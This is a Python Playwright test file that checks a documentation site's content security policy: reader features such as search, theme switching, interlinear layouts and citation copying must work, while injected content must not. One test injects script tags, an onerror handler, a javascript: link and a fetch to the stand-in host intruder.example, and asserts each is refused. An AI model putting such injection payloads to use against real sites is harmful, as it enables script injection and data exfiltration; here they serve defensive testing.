"""Under the pages' content policy everything that a reader uses works, and nothing else runs."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, expect

import builds
import kinds
import project
from builds import Build, Visit
from making import write
from searching import type_query
from texts import PAGE, choose

LISTEN = """addEventListener("securitypolicyviolation", event => console.error(
  `${event.effectiveDirective} refused ${event.blockedURI} ${event.sample}`))"""


@pytest.fixture
def guarded(context: BrowserContext, build: Build) -> Visit:
    """A page that complains of what its policy refuses, in its frames, too."""
    context.add_init_script(LISTEN)
    if build.name == "web":
        context.grant_permissions(["clipboard-read", "clipboard-write"])
    return builds.watch(context, build)


def test_a_page_of_every_kind_keeps_its_policy(guarded: Visit, build: Build) -> None:
    for path in kinds.paths(build):
        guarded.page.goto(build.base + path)
        guarded.page.wait_for_load_state()
    guarded.expect_clean()


def test_all_that_a_reader_uses_works_under_it(guarded: Visit, build: Build) -> None:
    page = guarded.page
    page.goto(build.url("index"))
    page.locator("label[for=__palette_1]").click()
    page.locator("label[for=__palette_2]").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    type_query(page, "kontor")
    page.locator(".search-more a").last.click()
    expect(page.locator(".search-groups a").first).to_be_visible()
    page.goto(build.url(PAGE))
    choose(page, "interlinear")
    page.reload()
    # Remembered, both before the page is first seen.
    expect(page.locator("#layout-interlinear")).to_be_checked()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    choose(page, "parallel")
    page.locator("#p1s1 .w").nth(2).hover()
    expect(page.locator(".card-popup")).to_be_visible()
    page.locator("#p1s2 .cite").click()
    expect(page.get_by_text("Citation of p1s2 copied").first).to_be_attached()
    page.goto(build.url("topics/tokyo-liaison-office"))
    page.locator(".footnote-ref").first.hover()
    expect(page.locator(".md-tooltip2--active, .card-popup").first).to_be_visible()
    guarded.expect_clean()


INTRUDE = """() => {
  const add = (name, told) => {
    document.body.append(Object.assign(document.createElement(name), told))
  }
  add("script", { textContent: "window.intruded = 'script'" })
  add("script", { src: "https://intruder.example/x.js" })
  add("img", { src: "https://intruder.example/x.png" })
  add("iframe", { src: "https://intruder.example/" })
  add("style", { textContent: "body { --intruded: 1 }" })
  document.body.insertAdjacentHTML("beforeend",
    '<img src="data:x" onerror="window.intruded = 1">' +
    '<a id="way" href="javascript:window.intruded = 1">x</a>')
  document.getElementById("way").click()
  return fetch("https://intruder.example/?told").then(() => "sent", () => "kept")
}"""


def test_what_comes_in_otherwise_neither_runs_nor_sends(
    context: BrowserContext, build: Build
) -> None:
    asked: list[str] = []
    context.route(
        "https://intruder.example/**", lambda way: (asked.append(way.request.url), way.abort())
    )
    page = context.new_page()
    refused: list[str] = []
    page.on("console", lambda said: refused.append(said.text) if said.type == "error" else None)
    page.goto(build.url(PAGE))
    assert page.evaluate(INTRUDE) == "kept"
    expect(page.locator("#way")).to_be_attached()
    assert page.evaluate("window.intruded ?? ''") == ""
    assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--intruded')") == ""
    assert asked == []
    assert len(refused) >= 6


OVERRIDE = """<b class="early">no</b>
<script>document.querySelector(".early").textContent = "yes"</script>
"""


@pytest.fixture(scope="module")
def instant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Build]:
    """A collection whose pages take each other's place, and which has a script of its own."""
    here = write(
        project.empty(tmp_path_factory.mktemp("instant")),
        {
            "seeds/a.txt": "Han kom.\n",
            "seeds/a.yml": "language: nb\n",
            "docs/index.md": "# Start\n\n[Text](sources/a.md)\n",
            "overrides/partials/copyright.html": OVERRIDE,
        },
    )
    config = here / "mkdocs.yml"
    theme = "theme: {name: material, custom_dir: overrides, features: [navigation.instant]}"
    text = config.read_text("utf-8").replace("theme: material", theme)

    # Material takes from the sitemap which pages there are.
    class Handler(builds.QuietHandler):
        def __init__(self, *given: object) -> None:
            super().__init__(*given, directory=str(here / "site"))  # type: ignore[arg-type]

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        base = f"http://127.0.0.1:{server.server_port}/"
        config.write_text(text.replace('!ENV [SITE_URL, ""]', base), "utf-8")
        assert project.problems(project.build(here, "--strict")) == []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield Build("web", here / "site", base)
        server.shutdown()


def test_a_page_that_takes_another_s_place_keeps_its_scripts(
    context: BrowserContext, instant: Build
) -> None:
    context.add_init_script(LISTEN)
    visit = builds.watch(context, instant)
    page = visit.page
    page.goto(instant.base)
    page.evaluate("window.stayed = true")
    page.get_by_role("link", name="Text", exact=True).click()
    expect(page.locator("#p1s1")).to_be_visible()
    expect(page.locator(".early")).to_have_text("yes")
    assert page.evaluate("window.stayed"), "the page was loaded anew"
    visit.expect_clean()
